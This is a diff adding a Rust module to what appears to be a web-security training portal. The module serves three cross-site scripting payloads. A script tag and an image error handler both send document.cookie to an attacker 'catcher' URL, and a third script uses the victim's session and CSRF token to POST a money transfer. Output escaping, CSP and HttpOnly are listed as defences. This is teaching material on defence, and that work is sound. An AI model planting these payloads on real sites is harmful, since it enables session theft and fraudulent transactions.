@@ -1,0 +1,89 @@
+//! Scripts to plant on the portal's notice board: one that steals the cookie, and two that do without
+//! it.
+
+use rocket::{Route, get, routes};
+use rocket_dyn_templates::Template;
+use serde::Serialize;
+
+use super::page::Scene;
+use super::{Role, Trick};
+use crate::policy::Name;
+use crate::portal::Stop;
+use crate::web::place::Place;
+
+pub(super) const TRICK: Trick = Trick {
+    path: "/xss",
+    title: "Scripts for the notice board",
+    says: "Notices that run as scripts in the victim's browser: they steal the cookie, or ride it.",
+    role: Role::Attacker,
+    stopped_by: &[
+        (
+            Name::Output,
+            "The board shows a notice as the text that it is, so there is no script.",
+        ),
+        (
+            Name::Csp,
+            "The browser runs only scripts with this page's nonce, and sends nothing to other sites.",
+        ),
+        (
+            Name::HttpOnly,
+            "The script runs but finds no session cookie. It stops the first two payloads only, not \
+             the third.",
+        ),
+    ],
+};
+
+#[derive(Serialize)]
+struct Payload {
+    id: &'static str,
+    title: &'static str,
+    says: &'static str,
+    text: String,
+}
+
+#[derive(Serialize)]
+struct XssPage {
+    payloads: [Payload; 3],
+}
+
+fn payloads(catcher: &str) -> [Payload; 3] {
+    let steal = format!("'{catcher}?cookie='+encodeURIComponent(document.cookie)");
+    [
+        Payload {
+            id: "steal",
+            title: "Steal the cookie",
+            says: "Loads an image whose address carries document.cookie to the attacker.",
+            text: format!("<script>new Image().src={steal}</script>"),
+        },
+        Payload {
+            id: "handler",
+            title: "The same without a script tag",
+            says: "A broken image runs its error handler. Filtering script tags is no defence.",
+            text: format!("<img src=\"data:,\" onerror=\"this.onerror=null;this.src={steal}\">"),
+        },
+        Payload {
+            id: "ride",
+            title: "Ride the session",
+            says: "Sends the transfer from the victim's own page. It needs no cookie to read, and it \
+                   takes the CSRF token from the page.",
+            text: "<script>f=new URLSearchParams({to:'mallory',amount:'1'});\
+                   t=document.querySelector('[name=csrf_token]');\
+                   if(t)f.set('csrf_token',t.value);\
+                   fetch('transfer',{method:'POST',body:f})</script>"
+                .into(),
+        },
+    ]
+}
+
+#[get("/xss?<variant>")]
+fn show(place: &Place, variant: Option<&str>) -> Result<Template, Stop> {
+    let scene = Scene::open(place, &TRICK, variant)?;
+    let page = XssPage {
+        payloads: payloads(&scene.catcher()),
+    };
+    Ok(scene.show("pages/attacker/xss.html", page))
+}
+
+pub(super) fn routes() -> Vec<Route> {
+    routes![show]
+}
